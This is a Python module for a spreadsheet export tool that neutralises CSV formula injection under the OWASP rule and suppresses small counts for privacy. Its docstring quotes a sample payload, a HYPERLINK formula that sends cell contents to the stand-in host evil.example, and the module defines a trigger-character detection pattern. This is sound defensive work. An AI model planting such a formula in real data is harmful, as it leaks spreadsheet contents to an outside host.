"""Cell-level safety for exported spreadsheets: formula-injection guard and small-cell marks.

Exports are opened by coordinators in Excel or LibreOffice. A free-text answer such as
``=HYPERLINK("http://evil.example/?"&A1, "klik")`` would otherwise be evaluated as a
formula ("CSV injection" / "formula injection"), which can leak other cells or, with old
DDE settings, run commands. :func:`neutralise` applies the OWASP rule.

Sources:
    OWASP, "CSV Injection",
    https://owasp.org/www-community/attacks/CSV_Injection — prefix cells that start with
    ``=``, ``+``, ``-``, ``@``, tab (0x09) or carriage return (0x0D) with a single quote
    so spreadsheet software treats them as text. NUL (0x00) is added here because some
    parsers strip it and then see the character after it as the first one.
"""

from __future__ import annotations

import re

#: First characters that make a spreadsheet treat a cell as a formula (OWASP, plus NUL).
FORMULA_TRIGGERS: frozenset[str] = frozenset("=+-@\t\r\0")

#: Matches a trigger right after a ``\x1f`` (unit separator). The writers test a whole row
#: as ``"\x1f" + "\x1f".join(cells)`` in one C-level search (the literal first character
#: lets the regex engine skip ahead fast); a hit only means "check this row cell by cell",
#: so a false positive (a ``\x1f`` inside a text) costs time, never correctness.
ROW_TRIGGER_RE = re.compile("\x1f[=+\\-@\t\r\x00]")


def neutralise(value: str) -> str:
    """Make a text cell safe to open in a spreadsheet (OWASP CSV-injection rule).

    If ``value`` starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or NUL,
    a single quote ``'`` is put in front; Excel and LibreOffice then show the cell as
    text instead of evaluating it. The quote stays visible when the file is parsed by a
    program (e.g. Python's :mod:`csv`), which is the accepted cost of the rule: a
    resident's answer ``-`` comes back as ``'-``. All other values are returned unchanged.

    Args:
        value: The cell text (any length, may be empty).

    Returns:
        The same text, or the text prefixed with ``'``.

    Example:
        >>> neutralise("=1+1")
        "'=1+1"
        >>> neutralise("Goed")
        'Goed'
    """
    if value and value[0] in FORMULA_TRIGGERS:
        return "'" + value
    return value


def suppress(count: int, k: int = 5) -> str | int:
    """Primary small-cell suppression of one count.

    Args:
        count: A frequency, ``>= 0``.
        k: Threshold; counts ``1 .. k-1`` are hidden. ``k <= 1`` disables suppression.

    Returns:
        ``count`` itself if it is 0 or at least ``k``, otherwise the string ``"<k"``
        (e.g. ``"<5"``).

    Raises:
        ValueError: If ``count`` is negative.
    """
    if count < 0:
        raise ValueError(f"count must be >= 0, got {count}")
    if 0 < count < k:
        return f"<{k}"
    return count
